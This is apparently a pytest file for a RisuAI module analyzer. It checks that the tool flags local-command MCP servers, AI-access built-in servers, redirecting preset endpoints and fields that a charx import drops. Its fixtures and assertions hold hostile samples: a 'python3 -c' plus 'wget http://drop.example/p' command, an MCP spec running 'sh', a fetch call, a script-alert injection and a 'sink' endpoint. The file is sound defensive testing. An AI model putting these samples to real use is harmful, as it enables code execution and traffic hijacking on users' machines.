"""Fields that name other places or turn things on, as RisuAI reads them: an MCP server that
is a local command or a built-in server (mcp.ts), a module's ``namespace`` (modules.ts
``getModuleByIds``), a preset's endpoints and ``moduleIntergration`` (db.ts ``botPreset``),
and the fields of a ``.charx``'s module.risum its import drops (characterCards.ts).
Fixtures are our own (fixtures/analysis/fields)."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from harness import ROOT

from risutools.analysis import analyze
from risutools.analysis.model import Analysis
from risutools.analysis.walk_fields import COMMAND_SHOWN, mcp_target
from risutools.formats.reader import read_path
from risutools.formats.risum import write_risum

FIELDS = ROOT / "fixtures" / "analysis" / "fields"


def _one(path: Path) -> Analysis:
    modules = read_path(str(path))
    assert len(modules) == 1
    return analyze(modules[0])


def _rules(a: Analysis) -> list[str]:
    return [f.rule for f in a.findings]


def test_stdio_mcp_is_a_local_command_named_and_escaped() -> None:
    a = _one(FIELDS / "mcp-local.module.json")
    assert _rules(a) == ["RA804"]
    msg = a.findings[0].message
    assert a.findings[0].severity == "error"
    assert "python3 -c" in msg and "wget http://drop.example/p" in msg
    assert "(env: 1 variable(s))" in msg
    assert "(unparsed address)" not in json.dumps(a.to_dict())
    assert a.network_hosts == []  # no remote server: the host inside is a URL in the command
    assert [f.name for f in a.url_hosts] == ["drop.example"]
    assert a.to_dict()["mcp_servers"][0]["name"].startswith("stdio: python3 -c")


def test_stdio_command_is_bounded_and_control_characters_escaped() -> None:
    spec = json.dumps({"command": "x\u202e\x1b", "args": ["a" * 5000]})
    kind, shown = mcp_target("stdio:" + spec)
    assert kind == "local"
    assert len(shown) < COMMAND_SHOWN + 40 and shown.endswith("...")
    assert "\u202e" not in shown and "\x1b" not in shown


def test_internal_mcp_names_the_access() -> None:
    a = _one(FIELDS / "mcp-builtin.module.json")
    assert _rules(a) == ["RA802"]
    assert "'internal:aiaccess' (AI access)" in a.findings[0].message
    assert a.network_hosts == []
    assert [f.name for f in a.mcp_servers] == ["internal:aiaccess"]


def test_namespace_is_a_fact() -> None:
    a = _one(FIELDS / "namespace.module.json")
    assert [f.name for f in a.namespace] == ["0f1e1d5a-0000-4000-8000-0000000000aa"]
    assert a.to_dict()["namespace"][0]["evidence"] == ["namespace"]


def test_preset_endpoints_and_modules_it_turns_on() -> None:
    a = _one(FIELDS / "endpoints.preset.json")
    assert a.component_type == "preset"
    hosts = {f.name: f.evidence for f in a.network_hosts}
    assert hosts == {"sink.example.net": ["forceReplaceUrl"],
                     "textgen.example.org": ["textgenWebUIBlockingURL"]}
    assert sorted(_rules(a)) == ["RA805", "RA805", "RA806"]
    force = next(f for f in a.findings if f.pointer == "/forceReplaceUrl")
    assert "reverse_proxy" in force.message and force.severity == "warning"
    assert [f.name for f in a.enabled_modules] == ["0f1e1d5a-0000-4000-8000-0000000000aa",
                                                   "helper-namespace"]


def _charx(tmp: Path, module: dict[str, object]) -> Path:
    card = {"spec": "chara_card_v3", "spec_version": "3.0",
            "data": {"name": "Fieldy", "first_mes": "hi", "extensions": {"risuai": {}}}}
    path = tmp / "fieldy.charx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("card.json", json.dumps(card))
        z.writestr("module.risum", write_risum(module, []))
    return path


def test_charx_module_keeps_only_what_the_import_keeps(tmp_path: Path) -> None:
    path = _charx(tmp_path, {
        "name": "Fieldy Module", "id": "0f1e1d5a-0000-4000-8000-000000000004",
        "description": "", "assets": [],
        "regex": [{"comment": "r", "in": "a", "out": "b", "type": "editdisplay"}],
        "mcp": {"url": "stdio:{\"command\":\"sh\"}"},
        "cjs": "fetch('https://x.example')",
        "backgroundEmbedding": "<script>alert(1)</script>",
        "customModuleToggle": "t=T",
        "namespace": "0f1e1d5a-0000-4000-8000-0000000000bb",
    })
    a = _one(path)
    assert _rules(a) == ["RA807"]  # not RA301, RA501, RA802, RA804
    assert [f.name for f in a.ignored_fields] == [
        "backgroundEmbedding", "cjs", "customModuleToggle", "mcp", "namespace"]
    assert "ui.toggles" not in a.provides_names()
    assert "ui.background" not in a.provides_names()
    assert "mcp.server" not in a.requires_names()
    assert a.namespace == [] and a.mcp_servers == [] and a.toggles == []
    assert "regex.transform" in a.provides_names()


def test_charx_module_with_only_kept_fields_has_no_note(tmp_path: Path) -> None:
    path = _charx(tmp_path, {"name": "Fieldy Module", "id": "x", "description": "",
                             "assets": [], "lowLevelAccess": False,
                             "trigger": [], "regex": [], "lorebook": []})
    assert _rules(_one(path)) == []
